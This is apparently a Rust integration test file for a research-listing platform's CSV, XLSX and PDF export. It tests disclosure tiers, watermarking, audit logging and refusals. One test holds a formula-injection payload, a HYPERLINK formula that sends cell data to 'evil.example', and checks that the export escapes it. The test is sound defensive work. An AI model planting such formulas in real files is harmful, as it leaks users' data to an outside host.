//! Exported files: what the member may see and nothing else, recorded, with the member's name on it, and harmless to open.

use crate::given::{grant, over, published_need, published_seed, seed_content, world};
use crate::helpers::{Actor, Reply, TestApp, pages, unzipped};
use enishi::domain::ids::ListingId;
use enishi::domain::listing::NeedVisibility;
use enishi::domain::listing::content::Content;
use enishi::domain::listing::seed::SeedContent;
use enishi::domain::tier::Tier;
use enishi::services::indexing::follow;
use enishi::store::audiences;
use serde_json::{Value, json};

fn table(actor: &Actor<'_>, kind: &str, body: Value) -> Reply {
    actor.post(&format!("/search/{kind}/export"), body)
}

fn csv(actor: &Actor<'_>, kind: &str, text: &str) -> Vec<Vec<String>> {
    let reply = table(actor, kind, json!({"format": "csv", "text": text})).expect(200);
    let text = reply.text.strip_prefix('\u{feff}').expect("the mark of UTF-8");
    let mut reader = csv_reader(text);
    let titles = reader.headers().unwrap().clone();
    let rows = reader.records().map(|row| row.unwrap());
    [titles]
        .into_iter()
        .chain(rows)
        .map(|row| row.iter().map(str::to_owned).collect())
        .collect()
}

fn csv_reader(text: &str) -> csv::Reader<&[u8]> {
    csv::Reader::from_reader(text.as_bytes())
}

fn page(actor: &Actor<'_>, listing: ListingId) -> Reply {
    actor.get(&format!("/listings/{listing}/export?format=pdf"))
}

fn cell(table: &[Vec<String>], title: &str, row: usize) -> String {
    let column = table[0].iter().position(|known| known == title);
    table[row + 1][column.unwrap_or_else(|| panic!("no column {title} in {:?}", table[0]))].clone()
}

on_both!(a_search_becomes_a_table_in_the_callers_language, |app| {
    let world = world(app);
    let seed = published_seed(app, &world.researcher, &world.liaison, json!({}));
    let need = published_need(
        app,
        &world.rival,
        &world.liaison,
        json!({"deadline": "2027-05-06"}),
        NeedVisibility::Open,
    );
    follow::catch_up(&app.app).unwrap();
    let seeds = csv(&world.company, "seeds", "リウマチ");
    assert_eq!(seeds.len(), 2);
    assert_eq!(
        cell(&seeds, "タイトル（日本語）", 0),
        "関節リウマチに対する新規抗体医薬シーズ"
    );
    assert_eq!(
        cell(&seeds, "タイトル（英語）", 0),
        "A new antibody seed for rheumatoid arthritis"
    );
    assert_eq!(cell(&seeds, "モダリティ", 0), "抗体");
    assert_eq!(cell(&seeds, "機関の種別", 0), "大学");
    assert_eq!(cell(&seeds, "機関", 0), "");
    assert_eq!(cell(&seeds, "状態", 0), "掲載中");
    assert_eq!(
        cell(&seeds, "リンク", 0),
        format!("https://enishi.example/seeds/{seed}")
    );
    assert!(cell(&seeds, "整理番号", 0).starts_with("S-"));
    assert!(cell(&seeds, "開発段階", 0).contains('～'));
    assert!(csv(&world.company, "seeds", "結核").len() == 1, "the titles alone");

    let needs = csv(&world.company.in_english(), "needs", "");
    assert_eq!(cell(&needs, "Modalities wanted", 0), "Antibody");
    assert_eq!(cell(&needs, "Organisation", 0), "rival");
    assert_eq!(cell(&needs, "Deadline", 0), "2027-05-06");
    assert_eq!(cell(&needs, "Link", 0), format!("https://enishi.example/needs/{need}"));
    grant(app, seed, world.company.organisation, Tier::Approved);
    follow::catch_up(&app.app).unwrap();
    assert_eq!(cell(&csv(&world.company, "seeds", ""), "機関", 0), "uni 日本語");

    let reply = table(&world.company, "seeds", json!({"format": "xlsx"})).expect(200);
    let name = reply.header("content-disposition").unwrap();
    assert_eq!(name, "attachment; filename=\"enishi-seeds-202611201200.xlsx\"");
    assert_eq!(reply.header("cache-control"), Some("no-store, private"));
    let book = unzipped(&reply.bytes);
    for words in [
        "関節リウマチに対する新規抗体医薬シーズ",
        "uni 日本語",
        "シーズ一覧",
        "この資料について",
        "suzuki 様（pharma 日本語）",
        "2026-11-20 12:00 JST",
    ] {
        assert!(book.contains(words), "{words}");
    }
});

on_both!(hidden_fields_are_in_no_file_and_the_entitled_find_theirs, |app| {
    let world = world(app);
    let seed = published_seed(app, &world.researcher, &world.liaison, json!({}));
    follow::catch_up(&app.app).unwrap();
    let check = |actor: &Actor<'_>, tier: Tier| {
        let file = page(actor, seed).expect(200);
        assert_eq!(file.header("content-type"), Some("application/pdf"));
        let said = pages(&file.bytes).concat();
        for field in SeedContent::FIELDS {
            let canary = format!("CANARY-{}", field.name);
            if seed_content()[field.name].to_string().contains(&canary) {
                assert_eq!(
                    said.contains(&canary),
                    tier >= field.floor,
                    "{} at {tier}: {said}",
                    field.name
                );
            }
        }
        assert_eq!(said.contains("2027-03-31"), tier >= Tier::Owner);
        assert!(
            said.contains("関節リウマチに対する新規抗体医薬シーズ")
                && said.contains("受容体への結合を選択的に妨げる。")
        );
        for format in ["csv", "xlsx"] {
            let reply = table(actor, "seeds", json!({"format": format})).expect(200);
            let all = if format == "csv" {
                reply.text
            } else {
                unzipped(&reply.bytes)
            };
            assert!(
                !all.contains("CANARY") && all.contains("関節リウマチに対する新規抗体医薬シーズ"),
                "{format} {all}"
            );
        }
    };
    check(&world.company, Tier::Members);
    grant(app, seed, world.company.organisation, Tier::Approved);
    check(&world.company, Tier::Approved);
    check(&world.rival, Tier::Members);
    grant(app, seed, world.company.organisation, Tier::Cda);
    check(&world.company, Tier::Cda);
    check(&world.researcher, Tier::Owner);
});

on_both!(pages_say_who_took_them_and_are_text, |app| {
    let world = world(app);
    let seed = published_seed(app, &world.researcher, &world.liaison, json!({}));
    let japanese = pages(&page(&world.company, seed).expect(200).bytes);
    assert_eq!(japanese.len(), 1, "a usual listing takes one page");
    for words in [
        "シーズS-",
        "開示区分:会員",
        "suzuki様（pharma日本語）2026-11-2012:00JST",
        "誓約書の対象となる秘密情報です。",
        "1/1",
        "tocilizumab",
    ] {
        assert!(japanese[0].contains(words), "{words} in {}", japanese[0]);
    }
    let english = pages(&page(&world.company.in_english(), seed).expect(200).bytes);
    for words in [
        "Anewantibodyseedforrheumatoidarthritis",
        "suzuki(pharma)2026-11-2012:00JST",
        "Manypatientsdonotreachremission.",
    ] {
        assert!(english[0].contains(words), "{words} in {}", english[0]);
    }
    let long = json!({"unmet_need": {"ja": "寛解に至らない患者が残る。".repeat(76)}, "problem": {"ja": "標準治療に抵抗する。".repeat(100)},
        "differentiation": {"ja": "組織への選択性が高い。".repeat(90)}, "missing_data": {"ja": "霊長類での安全性。".repeat(88)}});
    let long = published_seed(app, &world.researcher, &world.liaison, long);
    let several = pages(&page(&world.company, long).expect(200).bytes);
    assert!(several.len() > 1);
    let (mark, notice) = (
        "suzuki様（pharma日本語）2026-11-2012:00JST",
        "誓約書の対象となる秘密情報です。閲覧を認められた会員以外には渡さないでください。",
    );
    let mut whole = String::new();
    for (number, page) in several.iter().enumerate() {
        let number = format!("{}/{}", number + 1, several.len());
        assert!(page.contains(&number) && page.matches(mark).count() == 4, "{page}");
        whole.push_str(&page.replace(mark, "").replace(notice, "").replace(&number, ""));
    }
    assert_eq!(whole.matches("標準治療に抵抗する。").count(), 100);
    let need = published_need(app, &world.rival, &world.liaison, json!({}), NeedVisibility::Open);
    let need = pages(&page(&world.company, need).expect(200).bytes).concat();
    for words in ["14日以内", "受け入れ可", "rival日本語", "自己免疫疾患の新規抗体を求む"] {
        assert!(need.contains(words), "{words} in {need}");
    }
});

on_both!(what_looks_like_a_formula_stays_text, |app| {
    let world = world(app);
    let title = |text: &str| json!({"title": {"ja": text, "en": format!("@{text}")}, "summary": {"ja": format!("-{text}"), "en": format!("＋{text}")}});
    let wicked = "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")";
    published_seed(app, &world.researcher, &world.liaison, title(wicked));
    follow::catch_up(&app.app).unwrap();
    let seeds = csv(&world.company, "seeds", "");
    assert_eq!(cell(&seeds, "タイトル（日本語）", 0), format!("'{wicked}"));
    assert_eq!(cell(&seeds, "タイトル（英語）", 0), format!("'@{wicked}"));
    assert_eq!(cell(&seeds, "一行要約（日本語）", 0), format!("'-{wicked}"));
    assert_eq!(cell(&seeds, "一行要約（英語）", 0), format!("'＋{wicked}"));
    let book = unzipped(
        &table(&world.company, "seeds", json!({"format": "xlsx"}))
            .expect(200)
            .bytes,
    );
    assert!(book.contains("=HYPERLINK("));
    assert!(
        !book.contains("<f>") && !book.contains("<f ") && !book.contains("<hyperlink"),
        "{book}"
    );
});

on_both!(every_file_is_in_the_owners_evidence_before_it_leaves, |app| {
    let world = world(app);
    let seed = published_seed(app, &world.researcher, &world.liaison, json!({}));
    let other = published_seed(app, &world.researcher, &world.liaison, json!({}));
    follow::catch_up(&app.app).unwrap();
    let evidence = |listing: ListingId| {
        let seen = world
            .researcher
            .get(&format!("/listings/{listing}/disclosures"))
            .expect(200)
            .json();
        let seen = seen["items"].as_array().unwrap().iter();
        let files = seen.filter(|one| one["surface"] == "export" || one["surface"] == "table");
        let said = |one: &Value, name: &str| one[name].as_str().unwrap().to_owned();
        files
            .map(|one| format!("{} {}", said(one, "surface"), said(one, "tier")))
            .collect::<Vec<_>>()
    };
    page(&world.company, seed).expect(200);
    assert_eq!(
        (evidence(seed), evidence(other)),
        (vec!["export members".to_owned()], vec![])
    );
    table(&world.company, "seeds", json!({"format": "csv"})).expect(200);
    assert_eq!((evidence(seed).len(), evidence(other).len()), (2, 1));
    assert_eq!(
        (&*evidence(seed)[0], &*evidence(other)[0]),
        ("table members", "table members")
    );
    // A table of one row is no reading of a whole listing.
    table(&world.company, "seeds", json!({"format": "xlsx", "limit": 1})).expect(200);
    let all = [evidence(seed), evidence(other)].concat();
    assert_eq!(all.iter().filter(|one| *one == "table members").count(), 3);
    assert_eq!(all.len(), 4);
    // The owner's own reading needs no entry.
    page(&world.researcher, seed).expect(200);
    assert_eq!(evidence(seed).len() + evidence(other).len(), 4);
});

on_both!(what_may_not_be_seen_or_is_not_known_is_refused, |app| {
    let world = world(app);
    let seed = published_seed(app, &world.researcher, &world.liaison, json!({}));
    let blocked = world.rival.organisation;
    app.arrange(|tx| {
        audiences::set_blocks(tx, seed, &[blocked]).unwrap();
        tx.reindex(seed);
    });
    follow::catch_up(&app.app).unwrap();
    let nothing = "00000000-0000-4000-8000-000000000000".parse().unwrap();
    let (theirs, none) = (
        page(&world.rival, seed).expect(404),
        page(&world.rival, nothing).expect(404),
    );
    assert_eq!((theirs.headers, theirs.text), (none.headers, none.text));
    assert_eq!(csv(&world.rival, "seeds", "").len(), 1, "the titles alone");
    for query in ["", "?format=docx", "?format=pdf&more=1"] {
        let refused = world
            .company
            .get(&format!("/listings/{seed}/export{query}"))
            .expect(400);
        assert_eq!(refused.code(), "unreadable");
    }
    let fault = |body: Value, status: u16| {
        let reply = table(&world.company, "seeds", body).expect(status).json();
        let first = &reply["errors"][0];
        format!(
            "{} {}",
            first["field"].as_str().unwrap(),
            first["code"].as_str().unwrap()
        )
    };
    assert_eq!(fault(json!({"format": "pdf"}), 400), "format unknown_code");
    assert_eq!(fault(json!({}), 400), "format required");
    assert_eq!(fault(json!({"format": "csv", "limit": 0}), 422), "limit out_of_range");
    assert_eq!(fault(json!({"format": "csv", "limit": 501}), 422), "limit out_of_range");
    let unknown = json!({"format": "csv", "filters": {"modalities": ["nonsense"]}});
    assert_eq!(fault(unknown, 422), "filters.modalities.0 unknown_code");
});

#[test]
fn more_than_a_page_of_hits_is_exported_up_to_the_limit() {
    let app = &TestApp::sqlite_with("export.most_listings = 120\n");
    let world = world(app);
    for number in 0..125 {
        let title = json!({"title": {"ja": format!("シーズ{number}")}});
        published_seed(
            app,
            &world.researcher,
            &world.liaison,
            over(title, json!({"problem": null})),
        );
    }
    follow::catch_up(&app.app).unwrap();
    let rows = csv(&world.company, "seeds", "");
    assert_eq!(rows.len(), 121);
    let mut references: Vec<&String> = rows.iter().skip(1).map(|row| &row[0]).collect();
    references.sort();
    references.dedup();
    assert_eq!(references.len(), 120, "each once");
    let book = unzipped(
        &table(&world.company, "seeds", json!({"format": "xlsx"}))
            .expect(200)
            .bytes,
    );
    assert!(book.contains("120 / 125"));
}

#[test]
fn without_a_font_the_operator_is_named_what_to_install_and_nothing_is_recorded() {
    let app = &TestApp::sqlite_with("export.font = '/nonexistent/font.ttf'\n");
    let world = world(app);
    let seed = published_seed(app, &world.researcher, &world.liaison, json!({}));
    let refused = page(&world.company, seed).expect(503);
    assert_eq!(refused.code(), "font_missing");
    assert!(refused.text.contains("fonts-noto-cjk") && refused.text.contains("日本語のフォント"));
    assert!(
        page(&world.company.in_english(), seed)
            .expect(503)
            .text
            .contains("export.font")
    );
    let seen = world
        .researcher
        .get(&format!("/listings/{seed}/disclosures"))
        .expect(200)
        .json();
    assert_eq!(seen["items"], json!([]));
    follow::catch_up(&app.app).unwrap();
    table(&world.company, "seeds", json!({"format": "xlsx"})).expect(200);
}
